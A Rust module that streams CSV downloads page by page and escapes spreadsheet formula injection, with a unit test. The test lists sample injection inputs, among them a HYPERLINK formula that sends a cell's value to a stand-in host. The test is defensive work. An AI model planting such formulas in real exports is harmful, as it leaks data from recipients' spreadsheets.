//! A CSV export streamed a page at a time: UTF-8 with a byte-order mark (so spreadsheet
//! programs read Chinese names), the header first, then each page as its source writes it.
//! Memory stays at one page, however many rows there are.

use std::borrow::Cow;
use std::future::Future;
use std::sync::Arc;

use axum::body::{Body, Bytes};
use axum::http::header;
use axum::response::{IntoResponse, Response};

use super::HttpState;
use crate::error::{AppError, AppResult};

/// Where the rows of an export come from.
pub trait Pages: Send + 'static {
    /// The header.
    const COLUMNS: &'static [&'static str];

    /// Writes the next page of rows; false once there is none after it.
    fn write_next(
        &mut self,
        state: &HttpState,
        out: &mut csv::Writer<Vec<u8>>,
    ) -> impl Future<Output = AppResult<bool>> + Send;
}

/// The export as a download named `filename`.
pub fn download(state: Arc<HttpState>, filename: &str, pages: impl Pages) -> Response {
    let body = Body::from_stream(stream(state, pages));
    (
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_owned()),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{filename}\""),
            ),
        ],
        body,
    )
        .into_response()
}

struct Cursor<P> {
    state: Arc<HttpState>,
    pages: P,
    started: bool,
    done: bool,
}

fn stream<P: Pages>(
    state: Arc<HttpState>,
    pages: P,
) -> impl futures::Stream<Item = Result<Bytes, std::io::Error>> {
    let cursor = Cursor {
        state,
        pages,
        started: false,
        done: false,
    };
    futures::stream::unfold(cursor, |mut cursor| async move {
        if cursor.done {
            return None;
        }
        match next_chunk(&mut cursor).await {
            Ok(bytes) => Some((Ok(bytes), cursor)),
            Err(err) => {
                tracing::error!(error = %err, "CSV export stopped");
                cursor.done = true;
                Some((Err(std::io::Error::other("export failed")), cursor))
            }
        }
    })
}

/// The mark and the header (first call), then the next page.
async fn next_chunk<P: Pages>(cursor: &mut Cursor<P>) -> AppResult<Bytes> {
    let mut buffer = Vec::new();
    if !cursor.started {
        buffer.extend_from_slice("\u{feff}".as_bytes());
    }
    let mut out = csv::Writer::from_writer(buffer);
    if !cursor.started {
        cursor.started = true;
        out.write_record(P::COLUMNS).map_err(AppError::internal)?;
    }
    if !cursor.pages.write_next(&cursor.state, &mut out).await? {
        cursor.done = true;
    }
    Ok(Bytes::from(
        out.into_inner()
            .map_err(|e| AppError::internal_msg(e.to_string()))?,
    ))
}

/// Free text as a spreadsheet cell: text a spreadsheet program would run as a formula (starting
/// with `=`, `+`, `-`, `@`, tab or carriage return) gets a leading `'`, so it shows as text.
pub fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::cell;

    #[test]
    fn formulas_become_text_and_plain_names_stay_as_they_are() {
        for formula in [
            "=HYPERLINK(\"http://x/?\"&A1,\"Click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(cell(formula), format!("'{formula}"));
        }
        for plain in [
            "深圳市海运通报关有限公司",
            "Acme Trading (HK) Ltd.",
            "3M China",
        ] {
            assert_eq!(cell(plain), plain);
        }
    }
}
